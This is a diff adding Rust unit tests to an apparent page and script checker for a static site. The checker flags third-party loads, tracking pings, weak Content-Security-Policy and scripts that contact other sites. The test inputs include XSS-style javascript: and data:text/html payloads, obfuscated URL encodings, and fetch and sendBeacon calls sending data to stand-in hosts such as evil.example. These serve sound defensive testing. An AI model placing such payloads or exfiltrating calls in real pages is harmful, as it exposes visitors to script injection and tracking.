@@ -603,4 +603,206 @@ mod tests {
             ]
         );
     }
+    #[test]
+    fn noscript_is_read_as_with_javascript_off() {
+        let found = messages(
+            "<noscript><meta http-equiv=refresh content=\"0;url=https://evil.example/\">\
+             <img src=https://evil.example/x><link rel=stylesheet href=https://evil.example/s.css></noscript>\
+             <noscript><!--</noscript><textarea>--><img src=https://hidden.example/y></textarea>",
+            &[],
+        );
+        assert_eq!(
+            found,
+            [
+                "<noscript>: <meta http-equiv=\"refresh\" content=\"https://evil.example/\"> redirects to evil.example, another site, which would learn of every visit",
+                "<noscript>: <img src=\"https://evil.example/x\"> loads from evil.example, another site, which would learn of every visit",
+                "<noscript>: <link rel=\"stylesheet\" href=\"https://evil.example/s.css\"> loads from evil.example, another site, which would learn of every visit",
+                "<noscript>: <img src=\"https://hidden.example/y\"> loads from hidden.example, another site, which would learn of every visit",
+            ]
+        );
+        // What both readings see is reported once.
+        assert_eq!(
+            messages("<img src=https://a.example/1><noscript><p>x</p></noscript>", &[]).len(),
+            1
+        );
+    }
+
+    #[test]
+    fn srcdoc_is_read_as_a_page_to_a_bounded_depth() {
+        let found = messages(
+            "<iframe srcdoc=\"<img src=https://evil.example/x><iframe srcdoc='&lt;a href=https://b.example/ ping=/p&gt;b&lt;/a&gt;'></iframe>\"></iframe>",
+            &[],
+        );
+        assert_eq!(
+            found,
+            [
+                "<iframe srcdoc>: <img src=\"https://evil.example/x\"> loads from evil.example, another site, which would learn of every visit",
+                "<iframe srcdoc>: <iframe srcdoc>: <a href=\"https://b.example/\"> links to b.example without rel=\"noreferrer\", so b.example would learn which page the visitor came from",
+                "<iframe srcdoc>: <iframe srcdoc>: <a ping=\"/p\"> tells the site of every click on the link, which tracks the visitor",
+            ]
+        );
+        let mut deep = "<img src=https://deep.example/x>".to_string();
+        for _ in 0..6 {
+            deep = format!("<iframe srcdoc=\"{}\"></iframe>", deep.replace('&', "&amp;").replace('"', "&quot;"));
+        }
+        let found = messages(&deep, &[]);
+        assert_eq!(found.len(), 1, "{found:#?}");
+        assert!(found[0].ends_with("<iframe srcdoc> holds frames inside frames too deep to check"), "{found:#?}");
+    }
+
+    #[test]
+    fn every_url_attribute() {
+        let found = messages(
+            "<a href=/ ping=\"https://evil.example/p /q\">x</a>\
+             <link rel=preload as=image imagesrcset=\"/a.png 1x, https://evil.example/x.png 2x\">\
+             <link rel=apple-touch-startup-image href=https://i.example/s.png><link rel=author href=https://me.example/>\
+             <video poster=https://v.example/p.jpg></video><table background=https://t.example/b.png></table>\
+             <base href=https://base.example/><blockquote cite=https://quoted.example/>q</blockquote>\
+             <svg><image href=https://s.example/i.png /><set attributeName=href to=javascript:alert(1) /></svg>",
+            &[],
+        );
+        assert_eq!(
+            found,
+            [
+                "<a ping=\"https://evil.example/p\"> tells evil.example of every click on the link, which tracks the visitor",
+                "<a ping=\"/q\"> tells the site of every click on the link, which tracks the visitor",
+                "<link rel=\"preload\" imagesrcset=\"https://evil.example/x.png\"> loads from evil.example, another site, which would learn of every visit",
+                "<link rel=\"apple-touch-startup-image\" href=\"https://i.example/s.png\"> loads from i.example, another site, which would learn of every visit",
+                "<video poster=\"https://v.example/p.jpg\"> loads from v.example, another site, which would learn of every visit",
+                "<table background=\"https://t.example/b.png\"> loads from t.example, another site, which would learn of every visit",
+                "<base href=\"https://base.example/\"> makes every relative URL of the page load from base.example, another site, which would learn of every visit",
+                "<image href=\"https://s.example/i.png\"> loads from s.example, another site, which would learn of every visit",
+                "<set to=\"javascript:alert(1)\"> runs a javascript: URL",
+            ]
+        );
+    }
+
+    #[test]
+    fn urls_are_read_after_decoding_and_in_any_case() {
+        let found = messages(
+            "<img src=\"&#104;ttps://a.example/x\"><img src=\"HTTPS://B.EXAMPLE/x\"><img src=\"\\/\\/c.example/x\">\
+             <img src=\" //d.example/x\"><a href=\"java&#x09;script&colon;alert(1)\">x</a><img src=\"https:e.example/x\">",
+            &[],
+        );
+        let hosts: Vec<&str> = found
+            .iter()
+            .map(|m| m.split(" loads from ").nth(1).map_or(m.as_str(), |h| h.split(',').next().unwrap_or("")))
+            .collect();
+        assert_eq!(
+            hosts,
+            [
+                "a.example",
+                "b.example",
+                "c.example",
+                "d.example",
+                "<a href=\"java\tscript:alert(1)\"> runs a javascript: URL",
+                "e.example"
+            ]
+        );
+    }
+
+    #[test]
+    fn data_urls_only_for_images() {
+        let found = messages(
+            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a><a href=\"data:image/svg+xml,<svg>\">y</a>\
+             <iframe src=\"data:text/html,x\"></iframe><form action=\"data:text/html,x\"></form>\
+             <img src=\"data:text/html,x\"><img src=\"data:image/svg+xml,<svg/>\">\
+             <meta http-equiv=refresh content=\"0;url=data:text/html,x\">",
+            &[],
+        );
+        let elements: Vec<&str> = found
+            .iter()
+            .map(|m| m.strip_suffix(" uses a data: URL; only images may").unwrap_or(m))
+            .collect();
+        assert_eq!(
+            elements,
+            [
+                "<a href=\"data:text/html,<script>alert(1)</script>\">",
+                "<a href=\"data:image/svg+xml,<svg>\">",
+                "<iframe src=\"data:text/html,x\">",
+                "<form action=\"data:text/html,x\">",
+                "<img src=\"data:text/html,x\">",
+                "<meta http-equiv=\"refresh\" content=\"data:text/html,x\">",
+            ]
+        );
+    }
+
+    #[test]
+    fn referrer_cookies_and_prefetch_metas() {
+        let found = messages(
+            "<meta name=referrer content=unsafe-url><meta http-equiv=set-cookie content=\"a=b\">\
+             <meta http-equiv=x-dns-prefetch-control content=on><img referrerpolicy=origin src=/a.png>\
+             <a referrerpolicy=no-referrer href=/>x</a>",
+            &[],
+        );
+        assert_eq!(
+            found,
+            [
+                "<meta name=\"referrer\" content=\"unsafe-url\"> lets other sites learn which page the visitor came from",
+                "<meta http-equiv=\"set-cookie\" content=\"a=b\"> sets a cookie, which leaves a trace on the visitor's device",
+                "<meta http-equiv=\"x-dns-prefetch-control\" content=\"on\"> lets the browser look up the address of every site the page links to",
+                "<img referrerpolicy=\"origin\"> lets other sites learn which page the visitor came from",
+            ]
+        );
+    }
+
+    #[test]
+    fn weak_or_misplaced_policies() {
+        let origins = Origins::new(Some("https://example.org/"), &["fonts.example.net".into()]);
+        let found = |head: &str| -> Vec<String> {
+            let page = format!("<meta name=referrer content=no-referrer>{head}<p>x");
+            check_page("p.html", &scan(page.as_bytes()), &origins)
+                .into_iter()
+                .map(|f| f.message)
+                .collect()
+        };
+        let policy = |p: &str| format!("<meta http-equiv=Content-Security-Policy content=\"{p}\">");
+        assert!(found(&policy("default-src 'none'; img-src 'self' data: https://fonts.example.net; script-src 'self' example.org 'sha256-abc'; base-uri 'none'")).is_empty());
+        assert_eq!(
+            found(&policy("default-src *; img-src https: data:; script-src 'self' https://evil.example 'strict-dynamic'; font-src data:; report-uri https://r.example/")),
+            [
+                "the page's Content-Security-Policy allows any site (*) in default-src",
+                "the page's Content-Security-Policy allows every https: address in img-src",
+                "the page's Content-Security-Policy allows evil.example in script-src, another site",
+                "the page's Content-Security-Policy allows 'strict-dynamic'",
+                "the page's Content-Security-Policy allows every data: address in font-src",
+                "the page's Content-Security-Policy sends its reports to r.example, another site",
+            ]
+        );
+        let in_body = format!("<body>{}", policy("default-src 'none'"));
+        assert_eq!(
+            found(&in_body),
+            [
+                "<meta http-equiv=\"content-security-policy\" content=\"default-src 'none'\"> is outside <head>, where browsers ignore it",
+                "the page has no <meta http-equiv=\"Content-Security-Policy\">",
+            ]
+        );
+    }
+
+    #[test]
+    fn scripts_name_no_other_site() {
+        let origins = Origins::new(Some("https://example.org/"), &["api.example.net".into()]);
+        let js = "// see https://docs.example.com/ for the API\n\
+                  fetch('https://evil.example/collect', {method: 'POST'});\n\
+                  navigator.sendBeacon(\"//beacon.example/b\", data);\n\
+                  var ws = new WebSocket(`wss://ws.example/s`);\n\
+                  new Image().src = 'https:' + '//' + host;\nvar u = 'https://' + host;\n\
+                  fetch('/own/x'); fetch('https://example.org/y'); fetch('https://api.example.net/z');\n\
+                  document.createElementNS('http://www.w3.org/2000/svg', 'svg');";
+        let found: Vec<String> = check_script("js/a.js", js, &origins)
+            .into_iter()
+            .map(|f| f.message)
+            .collect();
+        assert_eq!(
+            found,
+            [
+                "line 2 names https://evil.example/collect, an address on evil.example, another site: the script could send the visitor's data there",
+                "line 3 names //beacon.example/b, an address on beacon.example, another site: the script could send the visitor's data there",
+                "line 4 names wss://ws.example/s, an address on ws.example, another site: the script could send the visitor's data there",
+                "line 6 puts together an address of another site from \"https://\" and what follows",
+            ]
+        );
+        let theme = include_str!("../../themes/default/static/js/quick-exit.js");
+        assert!(check_script("js/quick-exit.js", theme, &origins).is_empty());
+    }
 }
